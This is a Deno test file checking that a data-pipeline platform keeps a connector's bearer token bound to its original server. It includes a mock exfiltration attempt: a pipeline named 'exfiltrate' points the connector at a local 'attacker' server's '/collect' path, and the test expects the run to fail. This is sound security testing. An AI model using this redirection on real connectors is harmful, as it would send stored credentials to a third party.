// A connector's credentials go only where its owner pointed it: a pipeline
// step can't redirect them, and moving a connector needs its secrets again.

import assert from "node:assert/strict";
import { startPlatform } from "./harness.ts";
import { runPipeline } from "./web_surface.ts";

const TOKEN = "Destination-bound-token-5521";

/** An HTTP server that records the Authorization headers it receives. */
function recordingServer() {
  const seen: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    (req) => {
      seen.push(req.headers.get("authorization") ?? "");
      return Response.json([{ id: 1 }]);
    },
  );
  const { port } = server.addr as Deno.NetAddr;
  return {
    origin: `http://127.0.0.1:${port}`,
    seen,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

Deno.test("a step that points a connector elsewhere fails and the credentials stay home", async () => {
  await using api = recordingServer();
  await using attacker = recordingServer();
  await using p = await startPlatform();
  const created = await p.fetch("/api/v1/connectors", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      name: "api",
      kind: "rest",
      config: { url: `${api.origin}/items`, auth_type: "bearer", token: TOKEN },
    }),
  });
  assert.equal(created.status, 201);
  await created.body?.cancel();

  // Same origin, another path: allowed, the token goes to the API.
  const { run: ok } = await runPipeline(p, {
    name: "same_origin",
    steps: [
      {
        id: "read",
        type: "extract",
        connector: "api",
        config: { url: `${api.origin}/other` },
      },
      {
        id: "load",
        type: "load",
        needs: ["read"],
        connector: "warehouse",
        config: { table: "same_origin" },
      },
    ],
  });
  assert.equal(ok.status, "SUCCESS");
  assert.ok(api.seen.includes(`Bearer ${TOKEN}`));

  const { run: stolen } = await runPipeline(p, {
    name: "exfiltrate",
    steps: [
      {
        id: "read",
        type: "extract",
        connector: "api",
        config: { url: `${attacker.origin}/collect` },
      },
      {
        id: "load",
        type: "load",
        needs: ["read"],
        connector: "warehouse",
        config: { table: "stolen" },
      },
    ],
  });
  assert.equal(stolen.status, "FAILURE");
  const read = stolen.tasks.find((task) => task.step_key === "read")!;
  assert.match(
    read.error ?? "",
    /Cannot use connector "api": the step changes "origin", which would send the connector's credentials elsewhere/,
  );
  assert.deepEqual(attacker.seen, []);
});

Deno.test("moving a connector to another server needs its secrets entered again", async () => {
  await using api = recordingServer();
  await using attacker = recordingServer();
  await using p = await startPlatform();
  const created = await p.fetch("/api/v1/connectors", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      name: "api",
      kind: "rest",
      config: { url: `${api.origin}/items`, auth_type: "bearer", token: TOKEN },
    }),
  });
  const { id } = await created.json();
  const moved = await p.fetch(`/api/v1/connectors/${id}`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      config: { url: `${attacker.origin}/items`, auth_type: "bearer" },
    }),
  });
  assert.equal(moved.status, 422);
  const problem = await moved.json();
  assert.equal(problem.errors[0].field, "config.token");
  assert.match(problem.errors[0].message, /Enter it again: origin changed/);
  // Nothing changed: a test still reaches the original API only.
  const test = await p.fetch(`/api/v1/connectors/${id}/test`, {
    method: "POST",
  });
  assert.equal((await test.json()).ok, true);
  assert.deepEqual(attacker.seen, []);

  // Another path on the same server keeps the token.
  const samePlace = await p.fetch(`/api/v1/connectors/${id}`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      config: { url: `${api.origin}/v2/items`, auth_type: "bearer" },
    }),
  });
  assert.equal(samePlace.status, 200);
  await samePlace.body?.cancel();
  // With the secret entered again, the move is allowed.
  const reentered = await p.fetch(`/api/v1/connectors/${id}`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      config: {
        url: `${attacker.origin}/items`,
        auth_type: "bearer",
        token: "a-new-token",
      },
    }),
  });
  assert.equal(reentered.status, 200);
  await reentered.body?.cancel();
});
